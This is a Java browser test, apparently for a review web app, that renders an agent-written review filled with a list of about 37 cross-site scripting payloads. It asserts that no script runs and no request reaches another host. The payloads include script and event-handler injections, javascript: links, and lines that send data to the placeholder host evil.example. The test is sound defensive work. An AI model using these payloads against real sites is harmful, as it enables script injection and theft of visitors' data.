package dev.reviewgate.ui;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.reviewgate.json.Json;
import dev.reviewgate.testing.BrowserTest;
import java.net.URI;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;

/**
 * Agent output is hostile: a review whose every field, title and label holds an XSS corpus renders
 * in Chromium with no dialog, no script but ours, no event-handler attribute and no request to
 * any host but the app's own.
 */
class XssTest extends BrowserTest {

    static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<a href=\"javascript:alert(1)\">click</a>",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "![exfil](https://evil.example/steal.png?c=secret)",
            "![exfil](http://evil.example/steal.png)",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#x3C;img src=x onerror=alert(1)&#x3E;",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "</textarea><script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"https://evil.example/x.swf\">",
            "<form action=\"https://evil.example/\"><button>go</button></form>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<base href=\"https://evil.example/\">",
            "[x](https://evil.example/ \"title\\\" onmouseover=\\\"alert(1)\")",
            "<a href=\"https://evil.example\" onclick=\"alert(1)\">x</a>",
            "javascript:alert(1)",
            "{{constructor.constructor('alert(1)')()}}",
            "<video><source onerror=alert(1)></video>",
            "<div style=\"background:url(https://evil.example/bg.png)\">bg</div>",
            "[ref]\n\n[ref]: javascript:alert(1)",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<div hx-get=\"/admin/users\" hx-trigger=\"load\" hx-swap=\"outerHTML\">htmx</div>");

    @Test
    void aReviewFullOfPayloadsRunsNoScriptAndFetchesNothingElsewhere() {
        assertThat(PAYLOADS.size()).isGreaterThanOrEqualTo(30);
        String joined = String.join("\n\n", PAYLOADS);
        api.post("/v1/forms", form());
        JsonNode created = api.post(
                        "/v1/reviews",
                        Map.of(
                                "formId",
                                "xss-form",
                                "title",
                                PAYLOADS.get(1),
                                "workflowId",
                                PAYLOADS.get(0).substring(0, 20),
                                "fields",
                                fields(joined)))
                .body();
        String reviewId = created.get("reviewId").asText();
        ObjectNode edited = (ObjectNode) fields(joined + "\n\n" + PAYLOADS.get(2));
        edited.put("txt", "edited " + joined);
        api.post(
                "/v1/reviews/" + reviewId + "/versions",
                Map.of("parentId", created.get("versionId").asText(), "snapshot", edited, "note", PAYLOADS.get(3)));

        List<String> dialogs = new CopyOnWriteArrayList<>();
        List<String> foreign = new CopyOnWriteArrayList<>();
        String appHost = URI.create(server.baseUrl()).getAuthority();
        page.onDialog(d -> {
            dialogs.add(d.message());
            d.dismiss();
        });
        page.onRequest(r -> {
            String authority = URI.create(r.url()).getAuthority();
            if (!r.url().startsWith("data:") && !appHost.equals(authority)) {
                foreign.add(r.url());
            }
        });
        signIn();
        for (String path : List.of(
                "/inbox",
                "/reviews/" + reviewId,
                "/reviews/" + reviewId + "/history",
                "/reviews/" + reviewId + "?version=" + created.get("versionId").asText())) {
            page.navigate(url(path));
            page.waitForLoadState();
            page.locator("details").all().forEach(d -> d.evaluate("el => el.open = true"));
            page.locator("input, textarea").all().stream().limit(20).forEach(i -> i.focus());
            page.waitForTimeout(300);
            assertThat(page.locator("script").count()).as("scripts on %s", path).isEqualTo(2);
            assertThat((Boolean) page.evaluate("() => [...document.querySelectorAll('*')].some(el => "
                            + "[...el.attributes].some(a => a.name.toLowerCase().startsWith('on')))"))
                    .as("on* attributes on %s", path)
                    .isFalse();
            assertThat(
                            (Boolean)
                                    page.evaluate(
                                            "() => [...document.querySelectorAll('a[href]')].some(a => "
                                                    + "!/^(https?:|mailto:|\\/|#)/i.test(a.getAttribute('href')) && a.getAttribute('href') !== '')"))
                    .as("unsafe links on %s", path)
                    .isFalse();
        }
        assertThat(dialogs).as("dialogs").isEmpty();
        assertThat(foreign).as("requests to other hosts").isEmpty();
        assertThat(page.locator("text=Administrator").count()).isGreaterThan(0);
    }

    private static JsonNode form() {
        ObjectNode form = Json.object().put("id", "xss-form").put("name", "XSS <b>form</b>");
        ArrayNode fields = form.putArray("fields");
        fields.addObject()
                .put("id", "md")
                .put("type", "markdown")
                .putObject("retry")
                .put("instructions", true);
        fields.addObject()
                .put("id", "txt")
                .put("type", "text")
                .put("multiline", true)
                .put("label", PAYLOADS.get(4));
        fields.addObject().put("id", "js").put("type", "json");
        fields.addObject().put("id", "lnk").put("type", "link");
        fields.addObject().put("id", "img").put("type", "images").put("selection", "multiple");
        ObjectNode select = fields.addObject().put("id", "sel").put("type", "select");
        select.putArray("options").addObject().put("value", PAYLOADS.get(0)).put("label", PAYLOADS.get(1));
        fields.addObject().put("id", "pg").put("type", "pageGroups");
        return form;
    }

    private static JsonNode fields(String joined) {
        ObjectNode fields = Json.object().put("md", joined).put("txt", joined);
        ObjectNode js = fields.putObject("js");
        PAYLOADS.forEach(p -> js.put("k" + js.size(), p));
        fields.putObject("lnk")
                .put("url", "https://evil.example/path?q=%3Cscript%3E")
                .put("text", PAYLOADS.get(5));
        fields.putArray("img")
                .addObject()
                .put("url", "https://evil.example/a.png?x=%22onerror=alert(1)")
                .put("alt", PAYLOADS.get(1));
        fields.put("sel", PAYLOADS.get(0));
        fields.putArray("pg")
                .addObject()
                .put("name", PAYLOADS.get(2))
                .putArray("pages")
                .add(1)
                .add(2);
        return fields;
    }
}
